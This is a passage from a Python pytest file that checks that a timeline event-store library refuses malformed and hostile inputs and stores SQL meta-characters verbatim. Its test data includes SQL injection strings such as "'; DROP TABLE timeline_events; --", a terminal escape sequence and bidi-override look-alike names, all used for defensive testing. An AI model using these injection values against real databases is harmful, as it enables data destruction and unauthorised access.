"""Hostile input and output: every bad argument is refused with a TimelineError naming its
field (and its line, in an import file), and stores nothing; text full of SQL
meta-characters is stored verbatim and read back equal; a line too long for any event is
refused without being held; names that only look alike are one name or refused; CSV never
hands a spreadsheet a formula, and text for a terminal never hands it a control sequence.

Each refusal is counted per backend; the totals are printed at the end of the test run
("hostile input [sqlite]: refused N of N bad inputs, stored 0 of them").
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import json
import math
import re
import tempfile
import tracemalloc
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

import timeline
from timeline.cli import main
from timeline.events import EVENT_FIELDS, event_from_dict, parse_json
from timeline.io import (
    SPREADSHEET_STARTS,
    from_spreadsheet_cell,
    max_line_bytes,
    read_csv,
    read_events,
    read_jsonl,
    spreadsheet_cell,
    write_csv,
    write_jsonl,
)
from timeline.text import printable
from timeline.times import isoformat

from helpers import raw_engine, stored_count
from strategies import (
    SQL_FRAGMENTS,
    Opaque,
    bad_record_calls,
    formula_events,
    formula_text,
    json_text,
    json_values,
    sql_names,
    sql_text,
)

MAX_EVENT_BYTES = 10_000
MAX_BATCH = 100
INCIDENT = "syria-2017-06"
GOOD = {"type": "shootdown", "actor": "US", "at": "2017-06-18T18:43+03:00", "incident": INCIDENT}
GOOD_EVENT = {"occurred_at" if k == "at" else k: v for k, v in GOOD.items()}
GOOD_DICT = {**GOOD_EVENT, "targets": ["Syria"], "data": {"aircraft": "Su-22"}}
RECORD_ARGS = ("shootdown", "US", "2017-06-18T18:43+03:00", "--incident", INCIDENT)

HYPOTHESIS = settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

pytestmark = pytest.mark.filterwarnings("ignore::dateutil.parser.UnknownTimezoneWarning")


def backend(url: str) -> str:
    """The backend's name for figures: ``sqlite`` or ``postgres``."""
    return "postgres" if url.startswith("postgres") else "sqlite"


def field_named(error: timeline.TimelineError, expected: str) -> str:
    """The field an error names (``.field``, else the message's prefix), as ``expected``
    when it is that field or a part of it (``data.x[0]``, ``events[3].data``, ``targets[1]``)."""
    named = (
        error.field
        if isinstance(error, timeline.InvalidEventError)
        else str(error).split(":", 1)[0]
    )
    named = re.sub(r"^events\[\d+\]\.", "", named)
    if named == expected:
        return named
    return re.split(r"[.\[ ]", named, maxsplit=1)[0]


@attrs.define
class Hostile:
    """A timeline with small limits, a raw count of its events, and the refusal tally."""

    tl: timeline.Timeline
    url: str
    engine: sa.Engine
    figures: Callable[..., None]
    seed: timeline.RecordedEvent | None = None

    @property
    def backend(self) -> str:
        return backend(self.url)

    def count(self) -> int:
        """How many events are stored, counted with raw SQL."""
        with self.engine.connect() as conn:
            return conn.execute(sa.text("SELECT count(*) FROM timeline_events")).scalar_one()

    def refuse(self, attempt: Callable[[], object], field: str, label: str = "") -> None:
        """Check that ``attempt`` raises a TimelineError naming ``field`` and stores nothing."""
        before = self.count()
        named = None
        try:
            with pytest.raises(timeline.TimelineError) as caught:
                attempt()
            named = field_named(caught.value, field)
        finally:
            stored = self.count() - before
            self.figures(
                f"hostile input [{self.backend}]",
                "refused {refused:,} of {tried:,} bad inputs (each naming its field), "
                "stored {stored} of them",
                tried=1,
                refused=int(named == field),
                stored=int(stored != 0),
            )
        assert (label, field, 0) == (label, named, stored)

    def stored_verbatim(self, stored: int) -> None:
        """Count events of SQL meta-characters that were stored and read back equal."""
        self.figures(
            f"sql meta-characters [{self.backend}]",
            "{verbatim:,} events stored verbatim, read back equal",
            verbatim=stored,
        )


@pytest.fixture
def hostile(db_url: str, figures: Callable[..., None]) -> Iterator[Hostile]:
    """A fresh timeline (max_event_bytes=10,000, max_batch=100) holding one seed event."""
    engine = raw_engine(db_url)
    with timeline.open(db_url, max_event_bytes=MAX_EVENT_BYTES, max_batch=MAX_BATCH) as tl:
        h = Hostile(tl, db_url, engine, figures)
        h.seed = tl.record(**GOOD, targets=["Syria"])
        yield h
    engine.dispose()


# -- hand-picked ------------------------------------------------------------------------------

Attempt = Callable[[Hostile], object]


def rec(**changes: Any) -> Attempt:
    """Record the good event with ``changes``."""
    return lambda h: h.tl.record(**{**GOOD, **changes})


def event(**changes: Any) -> Attempt:
    """Build the good Event with ``changes`` and append it."""
    return lambda h: h.tl.append([timeline.Event(**{**GOOD_EVENT, **changes})])


def imported(fields: Any) -> Attempt:
    """Append a good import-style event and one read from ``fields``."""
    return lambda h: h.tl.append([event_from_dict(GOOD_DICT), event_from_dict(fields)])


def imported_line(text: str) -> Attempt:
    """Append a good import-style event and one read from a line of JSON text, parsed as
    an import parses it."""
    return lambda h: h.tl.append(
        [event_from_dict(GOOD_DICT), event_from_dict(parse_json(text, field="event"))]
    )


def good_events(n: int, incident: str = "daraa") -> list[timeline.Event]:
    """``n`` distinct valid events."""
    return [
        timeline.Event("report", "US", "2017-06-18", incident=incident, data={"n": k})
        for k in range(n)
    ]


class NoOffset(dt.tzinfo):
    """A tzinfo that gives no offset: a datetime with it is naive."""

    def utcoffset(self, moment: dt.datetime | None) -> dt.timedelta | None:
        return None


WRONG_TYPES: dict[str, Any] = {
    "int": 42,
    "float": 1.5,
    "bool": True,
    "bytes": b"US",
    "list": ["US"],
    "dict": {"US": 1},
    "object": Opaque(),
    "set": {"US"},
    "None": None,
}
ACCEPTED = {  # (argument, wrong type) pairs that are in fact valid values
    ("targets", "list"), ("targets", "None"), ("data", "dict"), ("data", "None"),
    ("effects", "None"), ("precision", "None"), ("source", "None"), ("id", "None"),
    ("expected_version", "None"), ("corrects", "None"), ("retracts", "None"),
}  # fmt: skip
RECORD_ARGUMENTS = (
    "type", "actor", "at", "incident", "targets", "data", "effects", "precision", "source",
    "id", "expected_version",
)  # fmt: skip
EVENT_ARGUMENTS = ("corrects", "retracts")

NAIVE = dt.datetime(2017, 6, 18, 18, 43)
HUGE = "x" * (MAX_EVENT_BYTES + 1)
NOT_A_UUID = "0190a8e4-0000-7000-8000-00000000000g"


def case_groups() -> dict[str, list[tuple[str, str, Attempt]]]:
    """Hand-picked bad inputs by kind: ``(label, field it must name, attempt)``."""
    wrong_types = [
        (f"record({arg}=<{kind}>)", "occurred_at" if arg == "at" else arg, rec(**{arg: value}))
        for arg in RECORD_ARGUMENTS
        for kind, value in WRONG_TYPES.items()
        if (arg, kind) not in ACCEPTED
    ]
    event_arguments = [
        "occurred_at" if a == "at" else a for a in RECORD_ARGUMENTS if a != "expected_version"
    ]
    wrong_types += [
        (f"Event({arg}=<{kind}>)", arg, event(**{arg: value}))
        for arg in (*event_arguments, *EVENT_ARGUMENTS)
        for kind, value in WRONG_TYPES.items()
        if (arg, kind) not in ACCEPTED
    ]
    wrong_types += [
        (f"Event(default_tz=<{kind}>) with a naive time", "default_tz",
         event(occurred_at=NAIVE, default_tz=value))
        for kind, value in WRONG_TYPES.items()
        if kind != "None"
    ]  # fmt: skip
    wrong_types += [
        ("Event(default_tz='Mars/Olympus_Mons')", "default_tz",
         event(occurred_at=NAIVE, default_tz="Mars/Olympus_Mons")),
        ("Event(corrects=, retracts=)", "retracts",
         event(corrects=uuid.uuid4(), retracts=uuid.uuid4())),
    ]  # fmt: skip

    naive = [
        ("naive datetime", "occurred_at", rec(at=NAIVE)),
        ("naive datetime with a tzinfo giving no offset", "occurred_at",
         rec(at=NAIVE.replace(tzinfo=NoOffset()))),
        ("naive text", "occurred_at", rec(at="2017-06-18 18:43")),
        ("naive ISO text", "occurred_at", rec(at="2017-06-18T18:43:00")),
        ("naive text, time first", "occurred_at", rec(at="18:43 2017-06-18")),
        ("unknown zone abbreviation", "occurred_at", rec(at="2017-06-18 18:43 XYZ")),
        ("a local time that does not exist", "occurred_at",
         event(occurred_at=dt.datetime(2017, 3, 26, 2, 30), default_tz="Europe/Berlin")),
        ("a local time that happens twice", "occurred_at",
         event(occurred_at=dt.datetime(2017, 10, 29, 2, 30), default_tz="Europe/Berlin")),
        ("events(since=naive)", "since", lambda h: list(h.tl.events(since=NAIVE))),
        ("events(until=naive text)", "until",
         lambda h: list(h.tl.events(until="2017-06-18 12:00"))),
        ("events(known_at=naive)", "known_at", lambda h: list(h.tl.events(known_at=NAIVE))),
        ("state(at=naive)", "at", lambda h: h.tl.state("US", at=NAIVE)),
        ("state(known_at=naive)", "known_at", lambda h: h.tl.state("US", known_at=NAIVE)),
        ("history(since=naive)", "since", lambda h: h.tl.history("US", since=NAIVE)),
        ("history(until=naive)", "until", lambda h: h.tl.history("US", until=NAIVE)),
        ("correct(occurred_at=naive)", "occurred_at",
         lambda h: h.tl.correct(h.seed.id, occurred_at=NAIVE)),
    ]  # fmt: skip

    impossible = [
        (f"at={text!r}", "occurred_at", rec(at=text))
        for text in (
            "2017-02-29", "1900-02-29", "2017-02-30", "2017-04-31", "2017-06-31", "2017-13-01",
            "2017-00-10", "2017-06-00", "0000-01-01", "10000-01-01", "2017-06-18 24:00Z",
            "2017-06-18 23:60Z", "2017-06-18 23:59:60Z", "2017-06-18T25:00+03:00",
            "June 31 2017", "31 June 2017", "February 30, 2016", "", "   ", "now", "yesterday",
            "01/02/2017", "17-06-18", "June 18", "18:43 +03:00", "2017-W25", "1e9",
            "2017-06-18T18:43+03:00:00", "x" * 101,
        )
    ]  # fmt: skip
    impossible += [
        ("events(since='2017-02-30')", "since", lambda h: list(h.tl.events(since="2017-02-30"))),
        ("state(at='2017-06-31')", "at", lambda h: h.tl.state("US", at="2017-06-31")),
    ]

    nan = [
        ("data NaN", "data", rec(data={"x": math.nan})),
        ("data inf", "data", rec(data={"x": math.inf})),
        ("data -inf", "data", rec(data={"x": -math.inf})),
        ("data NaN in a list", "data", rec(data={"x": [1, math.nan]})),
        ("data inf deep", "data", rec(data={"a": {"b": [{"c": math.inf}]}})),
        ("effects NaN value", "effects", rec(effects={"US": {"x": math.nan}})),
        ("effects $inc NaN", "effects", rec(effects={"US": {"x": {"$inc": math.nan}}})),
        ("effects $inc inf", "effects", rec(effects={"US": {"x": {"$inc": math.inf}}})),
        ("at NaN", "occurred_at", rec(at=math.nan)),
        ("at inf", "occurred_at", rec(at=math.inf)),
        ("at 'NaN'", "occurred_at", rec(at="NaN")),
        ("at 'inf'", "occurred_at", rec(at="inf")),
        ("expected_version NaN", "expected_version", rec(expected_version=math.nan)),
        ("expected_version inf", "expected_version", rec(expected_version=math.inf)),
        ("precision NaN", "precision", rec(precision=math.nan)),
        ("source title NaN", "source", rec(source={"title": math.nan})),
        ("targets [NaN]", "targets", rec(targets=[math.nan])),
        ("decimal NaN", "data", rec(data={"x": decimal.Decimal("NaN")})),
    ]

    self_referring: dict[str, Any] = {}
    self_referring["me"] = self_referring
    deep: list[Any] = []
    for _ in range(100):
        deep = [deep]
    non_json = [
        (f"data {label}", "data", rec(data=value))
        for label, value in {
            "set": {"x": {1, 2}},
            "frozenset": {"x": frozenset({"a"})},
            "bytes": {"x": b"\x00\xff"},
            "bytearray": {"x": bytearray(b"ab")},
            "object": {"x": Opaque()},
            "Decimal": {"x": decimal.Decimal("1.5")},
            "complex": {"x": 1 + 2j},
            "datetime": {"x": dt.datetime(2017, 6, 18, tzinfo=dt.UTC)},
            "date": {"x": dt.date(2017, 6, 18)},
            "UUID": {"x": uuid.uuid4()},
            "int key": {1: "x"},
            "None key": {None: "x"},
            "tuple key": {("a",): "x"},
            "NUL in text": {"x": "a\x00b"},
            "NUL in a key": {"a\x00": 1},
            "lone surrogate": {"x": "a\ud800"},
            "lone surrogate key": {"\udfff": 1},
            "self-reference": self_referring,
            "100 levels deep": {"x": deep},
            "a function": {"x": print},
            "a type": {"x": int},
        }.items()
    ]
    non_json += [
        ("effects set value", "effects", rec(effects={"US": {"x": {1}}})),
        ("effects bytes value", "effects", rec(effects={"US": {"x": b"x"}})),
        ("effects int key", "effects", rec(effects={1: {"x": 1}})),
        ("effects attribute int key", "effects", rec(effects={"US": {1: "x"}})),
        ("source bytes", "source", rec(source={"url": b"https://example.org"})),
        ("source number", "source", rec(source={"quote": 42})),
        ("source list", "source", rec(source={"title": ["a"]})),
        ("source published_at number", "source", rec(source={"published_at": 2017})),
        ("source unknown field", "source", rec(source={"author": "TASS"})),
    ]

    many_targets = [f"target-{k:03d}-" + "t" * 180 for k in range(60)]
    huge = [
        ("actor of 201 characters", "actor", rec(actor="A" * 201)),
        ("incident of 201 characters", "incident", rec(incident="i" * 201)),
        ("target of 201 characters", "targets", rec(targets=["T" * 201])),
        ("effects actor of 201 characters", "effects", rec(effects={"R" * 201: {"x": 1}})),
        ("expected_version key of 201 characters", "expected_version",
         rec(expected_version={"i" * 201: 0})),
        ("type of 101 characters", "type", rec(type="a" * 101)),
        ("occurred_at text of 101 characters", "occurred_at",
         rec(at="2017-06-18" + " " * 91 + "Z")),
        ("data over max_event_bytes", "data", rec(data={"x": HUGE})),
        ("data of 2-byte characters over max_event_bytes", "data",
         rec(data={"x": "é" * (MAX_EVENT_BYTES // 2 + 1)})),
        ("data of 3-byte characters over max_event_bytes", "data",
         rec(data={"x": "€" * (MAX_EVENT_BYTES // 3 + 1)})),
        ("data of many keys over max_event_bytes", "data",
         rec(data={f"k{k}": k for k in range(MAX_EVENT_BYTES // 4)})),
        ("source quote over max_event_bytes", "source", rec(source={"quote": HUGE})),
        ("effects over max_event_bytes", "effects", rec(effects={"US": {"note": HUGE}})),
        ("60 long targets over max_event_bytes", "targets", rec(targets=many_targets)),
        ("a batch over max_batch", "events", lambda h: h.tl.append(good_events(MAX_BATCH + 1))),
        ("load: the third of a stream over max_event_bytes, after two were written", "data",
         lambda h: h.tl.load(
             iter([*good_events(2), timeline.Event(**GOOD_EVENT, data={"x": HUGE})]),
             chunk_size=1,
         )),
        ("correct(data=) over max_event_bytes", "data",
         lambda h: h.tl.correct(h.seed.id, data={"x": HUGE})),
    ]  # fmt: skip

    control = [
        (f"{field} with {name}", field, rec(**{field: value}))
        for name, character in {
            "NUL": "\x00",
            "BEL": "\x07",
            "newline": "\n",
            "carriage return": "\r",
            "tab": "\t",
            "ESC": "\x1b",
            "DEL": "\x7f",
            "NEL": "\x85",
            "lone surrogate": "\ud800",
        }.items()
        for field, value in {
            "actor": f"U{character}S",
            "incident": f"syria{character}2017",
        }.items()
    ]
    control += [
        ("target with BEL", "targets", rec(targets=["Sy\x07ria"])),
        ("target with NUL", "targets", rec(targets=["Syria\x00"])),
        ("effects actor with ESC", "effects", rec(effects={"Rus\x1bsia": {"x": 1}})),
        ("expected_version key with NUL", "expected_version",
         rec(expected_version={"syria\x00": 0})),
        ("type with NUL", "type", rec(type="shoot\x00down")),
        ("type with a newline inside", "type", rec(type="shoot\ndown")),
        ("actor with a leading space", "actor", rec(actor=" US")),
        ("actor with a trailing space", "actor", rec(actor="US ")),
        ("actor with a trailing no-break space", "actor", rec(actor="US\u00a0")),
        ("actor with a trailing newline", "actor", rec(actor="US\n")),
        ("incident with a leading tab", "incident", rec(incident="\tsyria")),
        ("empty actor", "actor", rec(actor="")),
        ("empty incident", "incident", rec(incident="")),
        ("empty target", "targets", rec(targets=[""])),
        ("target twice", "targets", rec(targets=["Syria", "Syria"])),
        ("data text with NUL", "data", rec(data={"quote": "a\x00"})),
        ("source title with NUL", "source", rec(source={"title": "TASS\x00"})),
    ]  # fmt: skip

    type_names = [
        (f"type={name!r}", "type", rec(type=name))
        for name in (
            "Shoot Down", "ShootDown", "shoot-down", "shoot down", "1shootdown", "_shootdown",
            "shootdown_", "shoot__down", "", "SHOOTDOWN", "shootdöwn", "shootdown;",
            "shootdown' OR '1'='1", "shootdown'; DROP TABLE timeline_events; --", "shoot.down",
            "shoot/down", "%", "_", "ｓｈｏｏｔｄｏｗｎ",
        )
    ]  # fmt: skip
    type_names += [
        ("events(type=<invalid>)", "type", lambda h: list(h.tl.events(type="Shoot Down"))),
        ("events(type=[<int>])", "type", lambda h: list(h.tl.events(type=[5]))),
    ]

    missing = {k: v for k, v in GOOD_DICT.items() if k != "actor"}
    import_dicts = [
        (f"import field {key!r}", key, imported({**GOOD_DICT, key: "x"}))
        for key in (
            "actr", "Type", "ACTOR", "type ", "", "version", "position", "hash", "recorded_at",
            "default_tz", "expected_version", "__class__", "'; DROP TABLE timeline_events; --",
        )
    ]  # fmt: skip
    import_dicts += [
        ("import field 1", "1", imported({**GOOD_DICT, 1: "x"})),
        ("import without actor", "actor", imported(missing)),
        ("import with actor null", "actor", imported({**GOOD_DICT, "actor": None})),
        ("import with type null", "type", imported({**GOOD_DICT, "type": None})),
        ("import of a list", "event", imported([GOOD_DICT])),
        ("import of text", "event", imported("shootdown")),
        ("import with naive occurred_at", "occurred_at",
         imported({**GOOD_DICT, "occurred_at": "2017-06-18 18:43"})),
        ("import with targets as an object", "targets",
         imported({**GOOD_DICT, "targets": {"Syria": True}})),
        ("import with a bad id", "id", imported({**GOOD_DICT, "id": NOT_A_UUID})),
        ("import with a bad corrects", "corrects", imported({**GOOD_DICT, "corrects": "x"})),
    ]  # fmt: skip

    calls = [
        ("append(<one Event>)", "events",
         lambda h: h.tl.append(timeline.Event(**GOOD_EVENT))),
        ("append([<dict>])", "events", lambda h: h.tl.append([GOOD_DICT])),
        ("append([<Event>, <str>])", "events",
         lambda h: h.tl.append([*good_events(1), "shootdown"])),
        ("load(<one Event>)", "events", lambda h: h.tl.load(timeline.Event(**GOOD_EVENT))),
        ("load(chunk_size=0)", "chunk_size", lambda h: h.tl.load(good_events(2), chunk_size=0)),
        ("load(expected_version=<int>)", "expected_version",
         lambda h: h.tl.load(good_events(2), expected_version=0)),
        ("expected_version behind", "expected_version", rec(expected_version=0)),
        ("expected_version ahead", "expected_version", rec(expected_version=5)),
        ("expected_version for a batch of two incidents", "expected_version",
         lambda h: h.tl.append([*good_events(1, "a"), *good_events(1, "b")], expected_version=0)),
        ("expected_version mapping, one incident behind", "expected_version",
         lambda h: h.tl.append(
             [*good_events(1, INCIDENT), *good_events(1, "daraa")],
             expected_version={INCIDENT: 0, "daraa": 0},
         )),
        ("an id stored with other content", "id",
         lambda h: h.tl.record(**{**GOOD, "id": h.seed.id, "actor": "Russia"})),
        ("one id twice in a batch, other content", "id",
         lambda h: h.tl.append([
             timeline.Event("report", "US", "2017-06-18", incident="d", id=uuid.UUID(int=7)),
             timeline.Event("report", "UK", "2017-06-18", incident="d", id=uuid.UUID(int=7)),
         ])),
        ("events(limit=-1)", "limit", lambda h: list(h.tl.events(limit=-1))),
        ("events(limit='10')", "limit", lambda h: list(h.tl.events(limit="10"))),
        ("events(after_position=-1)", "after_position",
         lambda h: list(h.tl.events(after_position=-1))),
        ("events(after_position=1.5)", "after_position",
         lambda h: list(h.tl.events(after_position=1.5))),
        ("events(page_size=0)", "page_size", lambda h: list(h.tl.events(page_size=0))),
        ("events(incident='')", "incident", lambda h: list(h.tl.events(incident=""))),
        ("events(actor=<201 characters>)", "actor", lambda h: list(h.tl.events(actor="A" * 201))),
        ("get(<not a UUID>)", "event_id", lambda h: h.tl.get(NOT_A_UUID)),
        ("get(<unknown>)", "event_id", lambda h: h.tl.get(uuid.uuid4())),
        ("incident_version(<int>)", "incident", lambda h: h.tl.incident_version(42)),
        ("state(<int>)", "actor", lambda h: h.tl.state(42)),
        ("history(attribute='')", "attribute", lambda h: h.tl.history("US", "")),
        ("correct(<nothing>)", "fields", lambda h: h.tl.correct(h.seed.id)),
        ("correct(incident=)", "incident", lambda h: h.tl.correct(h.seed.id, incident="x")),
        ("correct(position=)", "position", lambda h: h.tl.correct(h.seed.id, position=3)),
        ("correct(actor='')", "actor", lambda h: h.tl.correct(h.seed.id, actor="")),
        ("correct(actor=<same>)", "fields", lambda h: h.tl.correct(h.seed.id, actor="US")),
        ("correct(<unknown id>)", "event_id",
         lambda h: h.tl.correct(uuid.uuid4(), actor="Russia")),
        ("correct(<not a UUID>)", "event_id", lambda h: h.tl.correct("x", actor="Russia")),
        ("retract(reason='')", "reason", lambda h: h.tl.retract(h.seed.id, "")),
        ("retract(reason=' ')", "reason", lambda h: h.tl.retract(h.seed.id, " ")),
        ("retract(reason=None)", "reason", lambda h: h.tl.retract(h.seed.id, None)),
        ("retract(reason=<over max_event_bytes>)", "data", lambda h: h.tl.retract(h.seed.id, HUGE)),
        ("retract(<unknown id>)", "event_id", lambda h: h.tl.retract(uuid.uuid4(), "wrong")),
        ("open(default_tz='Mars/Base')", "default_tz",
         lambda h: timeline.open(h.url, default_tz="Mars/Base")),
        ("open(snapshot_interval=-1)", "snapshot_interval",
         lambda h: timeline.open(h.url, snapshot_interval=-1)),
        ("open(max_event_bytes='1MB')", "max_event_bytes",
         lambda h: timeline.open(h.url, max_event_bytes="1MB")),
        ("open(max_batch=1.5)", "max_batch", lambda h: timeline.open(h.url, max_batch=1.5)),
        ("open('mysql://…')", "url", lambda h: timeline.open("mysql://root@localhost/x")),
        ("open('::::')", "url", lambda h: timeline.open("::::")),
    ]  # fmt: skip

    too_long = "9" * 5000
    past_limits = [
        ("data integer of 5,000 digits", "data", rec(data={"x": 10**5000})),
        ("effects $inc of 5,000 digits", "effects",
         rec(effects={"US": {"n": {"$inc": 10**5000}}})),
        ("events(after_position=2**63)", "after_position",
         lambda h: list(h.tl.events(after_position=2**63))),
        ("events(limit=2**63)", "limit", lambda h: list(h.tl.events(limit=2**63))),
        ("events(page_size=2**63)", "page_size", lambda h: list(h.tl.events(page_size=2**63))),
        ("events(after_position=10**400)", "after_position",
         lambda h: list(h.tl.events(after_position=10**400))),
        ("as_of(Basis(2**63))", "known_at",
         lambda h: h.tl.as_of(timeline.Basis(2**63)).state("US")),
        ("expected_version=2**63", "expected_version", rec(expected_version=2**63)),
        ("load(chunk_size=2**63)", "chunk_size",
         lambda h: h.tl.load(good_events(2), chunk_size=2**63)),
        ("open(max_event_bytes=2**63)", "max_event_bytes",
         lambda h: timeline.open(h.url, max_event_bytes=2**63)),
        ("sequence(within='99999999999999999d')", "within",
         lambda h: h.tl.sequence([timeline.Step("shootdown")], within="99999999999999999d")),
        ("sequence(within=<400 digits>d)", "within",
         lambda h: h.tl.sequence([timeline.Step("shootdown")], within=too_long[:400] + "d")),
        ("Step(max_gap='99999999999999999d')", "max_gap",
         lambda h: timeline.Step("shootdown", max_gap="99999999999999999d")),
        ("Step(max_gap='1e400w')", "max_gap",
         lambda h: timeline.Step("shootdown", max_gap=too_long[:400] + ".5w")),
    ]  # fmt: skip
    json_text = [
        (f"import line {label}", "event", imported_line(text))
        for label, text in {
            "nested 100,000 deep": "[" * 100_000 + "]" * 100_000,
            "nested 100,000 deep, unclosed": "{\"a\": " * 100_000,
            "with an integer of 5,000 digits": '{"data": {"n": ' + too_long + "}}",
        }.items()
    ]  # fmt: skip

    look_alikes = [
        (f"actor {label}", "actor", rec(actor=name))
        for label, name in {
            "with a zero-width space": "U\u200bS",
            "with a right-to-left override": "US\u202eAIRAK",
            "with a left-to-right embedding": "\u202aUS",
            "with a pop directional formatting": "US\u202c",
            "with a right-to-left isolate": "US\u2067AIRAK\u2069",
            "with a left-to-right mark": "US\u200e",
            "with a right-to-left mark": "\u200fUS",
            "with an Arabic letter mark": "U\u061cS",
            "with a zero-width non-joiner between Latin letters": "U\u200cS",
            "with a zero-width joiner between Latin letters": "U\u200dS",
            "starting with a zero-width joiner": "\u200dUS",
            "with a soft hyphen": "U\u00adS",
            "with a word joiner": "U\u2060S",
            "with a byte-order mark": "\ufeffUS",
            "with a line separator": "U\u2028S",
            "with a paragraph separator": "U\u2029S",
            "of a Hangul filler": "\u3164",
            "ending in a halfwidth Hangul filler": "US\uffa0",
            "with a tag character": "US\U000e0041",
            "of 300 characters once composed": "\u0958" * 150,
        }.items()
    ]  # fmt: skip
    look_alikes += [
        ("incident with a right-to-left override", "incident",
         rec(incident="syria\u202e2017")),
        ("target with a zero-width space", "targets", rec(targets=["Sy\u200bria"])),
        ("target twice, composed and decomposed", "targets",
         rec(targets=["Cr\u00e9pieux", "Cre\u0301pieux"])),
        ("effects actor with a right-to-left override", "effects",
         rec(effects={"Rus\u202esia": {"x": 1}})),
        ("effects actor twice, composed and decomposed", "effects",
         rec(effects={"Cr\u00e9pieux": {"x": 1}, "Cre\u0301pieux": {"x": 2}})),
        ("effects path with a right-to-left override", "effects",
         rec(effects={"US": {"cooperation\u202e.US": "x"}})),
        ("effects path with a zero-width space", "effects",
         rec(effects={"US": {"cooperation.U\u200bS": "x"}})),
        ("effects path with ESC", "effects", rec(effects={"US": {"status\x1b[2J": "x"}})),
        ("effects path twice, composed and decomposed", "effects",
         rec(effects={"US": {"caf\u00e9": 1, "cafe\u0301": 2}})),
        ("expected_version key with a right-to-left override", "expected_version",
         rec(expected_version={"syria\u202e": 0})),
        ("events(actor=<zero-width space>)", "actor",
         lambda h: list(h.tl.events(actor="U\u200bS"))),
        ("events(incident=<bidi override>)", "incident",
         lambda h: list(h.tl.events(incident="syria\u202e"))),
        ("state(<bidi override>)", "actor", lambda h: h.tl.state("US\u202eAIRAK")),
        ("history(attribute=<bidi override>)", "attribute",
         lambda h: h.tl.history("US", "coop\u202e")),
        ("correct(actor=<zero-width joiner>)", "actor",
         lambda h: h.tl.correct(h.seed.id, actor="U\u200dS")),
    ]  # fmt: skip

    return {
        "wrong types": wrong_types,
        "naive datetimes": naive,
        "impossible dates": impossible,
        "NaN and infinities": nan,
        "non-JSON values": non_json,
        "huge values": huge,
        "control characters": control,
        "invalid type names": type_names,
        "import dicts": import_dicts,
        "other calls": calls,
        "numbers past their limits": past_limits,
        "JSON text past Python's limits": json_text,
        "look-alike names": look_alikes,
    }


CASES = case_groups()


@pytest.mark.parametrize("group", list(CASES))
def test_hand_picked_bad_inputs_are_refused_naming_the_field(hostile: Hostile, group: str) -> None:
    """Each hand-picked bad input raises a TimelineError naming its field and stores nothing."""
    for label, field, attempt in CASES[group]:
        hostile.refuse(lambda: attempt(hostile), field, label)  # noqa: B023 - called at once


# -- generated --------------------------------------------------------------------------------

_TYPE_NAME = re.compile(r"[a-z][a-z0-9]*(?:_[a-z0-9]+)*")


@settings(HYPOTHESIS, max_examples=500)
@given(call=bad_record_calls())
def test_generated_bad_record_arguments_are_refused(
    hostile: Hostile, call: tuple[str, dict[str, object]]
) -> None:
    """Any one generated bad argument of record() raises a TimelineError naming it, and
    stores nothing."""
    field, arguments = call
    hostile.refuse(lambda: hostile.tl.record(**arguments), field, repr(arguments)[:300])


@HYPOTHESIS
@given(
    key=st.text(max_size=20).filter(lambda key: key not in EVENT_FIELDS),
    value=json_values,
)
def test_generated_unknown_import_fields_are_refused(
    hostile: Hostile, key: str, value: object
) -> None:
    """An import-style event with any unknown field is refused naming that field, and the
    good event beside it is not stored either."""
    attempt = imported({**GOOD_DICT, key: value})
    hostile.refuse(lambda: attempt(hostile), key, repr(key))


@HYPOTHESIS
@given(
    field=st.sampled_from(["data", "source", "effects", "targets"]),
    character=st.sampled_from(["a", "é", "€", "𝄞", "'", "\\"]),
    excess=st.integers(1, 20_000),
)
def test_generated_oversized_events_are_refused(
    hostile: Hostile, field: str, character: str, excess: int
) -> None:
    """An event whose JSON is over max_event_bytes, however its bytes are made, is refused
    naming the field that makes it large, and stores nothing."""
    size = MAX_EVENT_BYTES + excess
    text = character * -(-size // len(character.encode()))
    value: object = {
        "data": {"x": text},
        "source": {"quote": text},
        "effects": {"US": {"note": text}},
        "targets": [
            f"{k:04d}" + text[k * 190 : (k + 1) * 190] for k in range(len(text) // 190 + 1)
        ],
    }[field]
    hostile.refuse(lambda: hostile.tl.record(**GOOD, **{field: value}), field, f"{field} {size}")


# -- stored verbatim --------------------------------------------------------------------------

SQL_STRINGS = (
    "'; DROP TABLE timeline_events; --",
    "Robert'); DELETE FROM timeline_events;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; UPDATE timeline_events SET actor = 'x'",
    "%",
    "_",
    "%_%",
    "\\",
    "\\'",
    "''",
    "?",
    "?, ?",
    ":actor",
    "$1",
    "$$; SELECT 1; $$",
    "%s",
    "%(actor)s",
    "{actor}",
    "`position`",
    "/* comment */",
    "-- comment",
    "E'\\x27'",
    "U&'\\0041'",
    "\\u0000",
    "NULL",
    "null",
    "timeline_events",
    "Ja’Din “quoted”",
    "Дамаск / دمشق",
    "👀 ;--",
)


def test_sql_meta_characters_are_stored_verbatim_in_every_text_field(hostile: Hostile) -> None:
    """Text full of SQL meta-characters in every text field is stored as given and read back
    equal, and filters on it match exactly that text (no LIKE, no injection)."""
    tl = hostile.tl
    expected: dict[str, object] = {}
    actual: dict[str, object] = {}
    for text in SQL_STRINGS:
        content = {
            "incident": text,
            "actor": text,
            "targets": (f"{text} target",),
            "data": {text: text, "control": f"{text}\n\t\x1b\x7f", "list": [text, {text: text}]},
            "effects": {text: {"status": text}},
            "source": {name: text for name in ("title", "url", "publisher", "quote")},
        }
        recorded = tl.record(type="report", at="2017-06-19", **content)
        got = tl.get(recorded.id)
        expected[text] = (content, [recorded.id], [recorded.id], text, text)
        actual[text] = (
            {name: getattr(got, name) for name in content},
            [e.id for e in tl.events(incident=text)],
            [e.id for e in tl.events(actor=text)],
            tl.state(text).get("status"),
            tl.history(text, "status")[-1].new,
        )
    assert expected == actual
    assert 1 + len(SQL_STRINGS) == hostile.count()
    assert tl.verify().ok
    hostile.stored_verbatim(len(SQL_STRINGS))


# a path part starting with "$" is refused (MongoDB's {"$inc": {"alert": 1}}): "$1" and "$$"
# stay in every other text field
_PATH_FRAGMENTS = [f for f in SQL_FRAGMENTS if "." not in f and not f.startswith("$")]


@HYPOTHESIS
@given(
    incident=sql_names,
    actor=sql_names,
    targets=st.lists(sql_names, max_size=3, unique=True),
    data=st.dictionaries(sql_text, sql_text | json_values, max_size=4),
